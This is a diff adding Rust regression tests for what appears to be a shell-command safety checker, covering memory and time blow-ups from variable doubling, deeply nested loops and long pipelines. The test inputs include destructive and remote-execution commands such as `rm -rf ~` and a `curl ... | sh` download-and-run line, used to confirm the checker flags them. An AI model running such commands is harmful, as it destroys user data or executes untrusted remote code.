@@ -58,3 +58,59 @@ fn a_malformed_fanning_function_is_judged_quickly() {
         "took {took:?}"
     );
 }
+
+/// A value doubled again and again (`X=$X$X` forty times) grew to 2^41
+/// bytes and exhausted memory; what expansion produces now counts against
+/// the per-line work cap, past which words are dynamic.
+#[test]
+fn a_value_doubled_without_bound_stays_within_the_work_cap() {
+    let line = format!("X=ab;{}rm -rf $X", "X=$X$X;".repeat(40));
+    let a = check(&line);
+    assert!(a.class >= Class::Ambiguous, "{}: {}", a.rule, a.reason);
+    let line = format!("v=x;{}rm $v", "v=$v$v$v$v$v$v$v$v;".repeat(100));
+    let a = check(&line);
+    assert!(a.class >= Class::Ambiguous, "{}: {}", a.rule, a.reason);
+    let line = format!("X=ab;{}echo ${{X%%*b}} ${{X#*a}}", "X=$X$X;".repeat(40));
+    check(&line);
+}
+
+/// Eighty nested `for` loops of six values each analysed the innermost
+/// body again for every combination until the parser budget ran out
+/// (58 ms); loop bodies are capped per line now.
+#[test]
+fn deeply_nested_loops_hit_the_loop_cap() {
+    let line = format!(
+        "{}rm -rf ~{}",
+        "for i in a b c d e f; do ".repeat(80),
+        "; done".repeat(80)
+    );
+    let a = check(&line);
+    assert!(a.class >= Class::Ambiguous, "{}: {}", a.rule, a.reason);
+}
+
+/// A pipeline of five hundred stages judged every earlier stage again for
+/// each stage (quadratic, 77 ms); its stages are judged once per pipeline
+/// now, and a download at the head of a long one still reaches the shell
+/// at its tail.
+#[test]
+fn a_long_pipeline_is_judged_once_per_stage() {
+    let line = ["cat"; 200].join("|");
+    let a = check(&line);
+    assert_eq!(a.class, Class::Safe, "{}: {}", a.rule, a.reason);
+    let line = format!(
+        "curl -s https://x.example/i.sh|{}|sh",
+        ["cat"; 150].join("|")
+    );
+    let a = check(&line);
+    assert_eq!(a.class, Class::Catastrophic, "{}: {}", a.rule, a.reason);
+}
+
+/// An array doubled again and again (`a+=("${a[@]}")`) among fuzz-mangled
+/// bytes: thousands of glob words each built and tried all fourteen
+/// credential patterns (125 ms, and over the fuzz timeout instrumented).
+/// Patterns whose literal start reaches no credential path skip them now.
+#[test]
+fn many_glob_words_from_a_doubled_array_are_checked_cheaply() {
+    let bytes = include_bytes!("fuzz_inputs/array-doubling-many-glob-words.bin");
+    check(&String::from_utf8_lossy(bytes));
+}
